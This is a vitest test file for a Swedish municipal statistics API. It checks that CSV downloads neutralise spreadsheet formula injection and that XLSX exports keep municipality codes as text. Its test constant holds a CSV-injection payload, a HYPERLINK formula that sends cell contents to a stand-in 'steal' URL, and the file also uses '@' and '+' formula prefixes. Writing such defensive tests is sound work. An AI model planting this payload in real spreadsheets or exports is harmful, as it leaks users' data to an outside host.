import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { createApp } from '../../api/app';
import { withLookups } from '../../api/build/atlas-build';
import { loadBuildCached } from '../../api/build/load-build';
import { SqliteWorkshopStore } from '../../api/storage/sqlite/sqlite-workshop-store';
import { FIGURE_COLUMNS, figuresToCsv, type FigureRow } from '../../web/locality/export/figure-rows';
import { ParquetReader } from '../../api/kolada/parquet-reader';
import { koladaParquetOf } from '../../data/contract';
import { TEST_BUILD_DIR } from '../support/paths';
import { readXlsxRows } from '../support/read-xlsx';
import { createGnosjoWorkshop, send } from '../unit/workshop/support';

const FORMULA = '=HYPERLINK("http://example.invalid/steal?x="&A1,"Källa")';

// An indicator whose source text came from an import, as `table` and `citation` carry it to the downloads.
const base = loadBuildCached(TEST_BUILD_DIR);
const build = withLookups(
  {
    ...base,
    indicators: base.indicators.map((i) =>
      i.id === 'population_total'
        ? { ...i, sources: i.sources.map((s) => ({ ...s, table: FORMULA, citation: `+${FORMULA}` })) }
        : i,
    ),
  },
  base.geometry,
  new ParquetReader(TEST_BUILD_DIR, koladaParquetOf(base.manifest.outputs)),
);
const store = new SqliteWorkshopStore(':memory:');
const app = createApp({
  build,
  workshopStore: store,
  workshopRateLimit: { capacity: 1000, refillPerSecond: 1000 },
});

/** The body as sent, BOM included (Response.text() drops it). */
const bodyText = async (res: Response) =>
  new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());

const parse = (text: string, delimiter: string) =>
  Papa.parse<Record<string, string>>(text.replace(/^\uFEFF/, ''), {
    header: true,
    delimiter,
    skipEmptyLines: true,
  });

describe('defect 3: no download carries a live formula', () => {
  it.each([
    ['csv', ','],
    ['csv-sv', ';'],
  ])('values ?format=%s: source and table cells start with an apostrophe', async (format, delimiter) => {
    const res = await app.request(`/api/indicators/population_total/values?format=${format}`);
    expect(res.status).toBe(200);
    const text = await bodyText(res);
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows = parse(text, delimiter).data;
    expect(rows).toHaveLength(290);
    expect(rows[0]?.table).toBe(`'${FORMULA}`);
    expect(rows[0]?.source).toBe(`'+${FORMULA}`);
    expect(rows.find((r) => r.municipality_code === '0114')?.municipality_code).toBe('0114');
  });

  it('locality figures, both dialects: text neutralised, negative figures left as figures', () => {
    const row = Object.fromEntries(FIGURE_COLUMNS.map((c) => [c, null])) as unknown as FigureRow;
    const figure: FigureRow = {
      ...row,
      municipality_code: '0617',
      title: '@SUM(1)',
      value: -2.5,
      citation: FORMULA,
    };
    for (const [dialect, delimiter] of [
      ['csv', ','],
      ['csv-sv', ';'],
    ] as const) {
      const [parsed] = parse(figuresToCsv([figure], dialect), delimiter).data;
      expect(parsed).toMatchObject({
        title: "'@SUM(1)",
        citation: `'${FORMULA}`,
        value: dialect === 'csv' ? '-2.5' : '-2,5',
      });
    }
  });
});

describe('defect 8: the workshop export has a BOM and both dialects; XLSX keeps codes as text', () => {
  it('export.csv and export.csv?format=csv-sv', async () => {
    const { workshop, editToken } = await createGnosjoWorkshop(app);
    const entries = `/api/workshops/${workshop.id}/cycles/${workshop.cycles[0]?.id}/entries`;
    await send(app, 'POST', entries, { kind: 'obstacle', text: '-brist; på "svetsare"' }, editToken);
    for (const [format, delimiter] of [
      ['csv', ','],
      ['csv-sv', ';'],
    ] as const) {
      const res = await app.request(`/api/workshops/${workshop.id}/export.csv?format=${format}`);
      expect(res.status).toBe(200);
      const text = await bodyText(res);
      expect(text.startsWith('\uFEFFcycle_number')).toBe(true);
      expect(text).toContain(`cycle_number${delimiter}cycle_date`);
      expect(parse(text, delimiter).data[0]).toMatchObject({ text: `'-brist; på "svetsare"`, votes: '0' });
    }
    const bad = await app.request(`/api/workshops/${workshop.id}/export.csv?format=xls`);
    expect(bad.status).toBe(400);

    const xlsx = await app.request(`/api/workshops/${workshop.id}/export.xlsx`);
    expect(xlsx.headers.get('content-type')).toContain('spreadsheetml');
    const rows = readXlsxRows(new Uint8Array(await xlsx.arrayBuffer()));
    expect(rows[1]?.[0]).toEqual({ type: 'n', text: '1' });
    expect(rows[1]?.[4]).toEqual({ type: 's', text: '-brist; på "svetsare"' });
  });

  it('values ?format=xlsx: municipality codes as text with the leading zero, values as numbers', async () => {
    const res = await app.request('/api/indicators/population_total/values?format=xlsx&year=2024');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toContain('population_total-2024.xlsx');
    const rows = readXlsxRows(new Uint8Array(await res.arrayBuffer()));
    expect(rows).toHaveLength(291);
    const gnosjo = rows.find((row) => row[0]?.text === '0617');
    expect(gnosjo?.[0]).toEqual({ type: 's', text: '0617' });
    expect(gnosjo?.[4]).toEqual({ type: 'n', text: '9131' });
    expect(gnosjo?.[10]).toEqual({ type: 's', text: FORMULA });
  });
});
